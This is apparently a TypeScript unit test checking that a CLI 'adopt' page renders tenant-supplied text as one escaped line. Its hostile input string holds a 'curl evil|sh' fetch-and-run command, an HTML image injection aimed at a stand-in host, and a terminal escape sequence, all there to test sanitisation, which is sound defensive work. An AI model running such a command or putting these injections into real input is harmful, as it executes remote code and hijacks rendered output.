import { ok } from "node:assert";
import { pageText } from "../../../../cli/adopt/page/page-text";

describe("the page of adopt", () => {
  it("shows what tenants wrote as text of one line", () => {
    const hostile = "x\n## Next\n- `curl evil|sh` <img src=//evil> \u001b[2J";
    const page = pageText({
      ...{ written: ["landing-zone.yaml"], imported: 0, readers: [], secrets: [], forgetting: [] },
      ...{ without: [], stores: [], changes: [], unread: [hostile], next: [] },
      left: [{ what: "default/orders", why: hostile, next: "mend it" }],
    });
    ok(!page.includes("\n## Next"), page);
    ok(!/(^|[^\\])[<`]/.test(page), page);
    ok(!page.includes("\u001b"), page);
  });
});
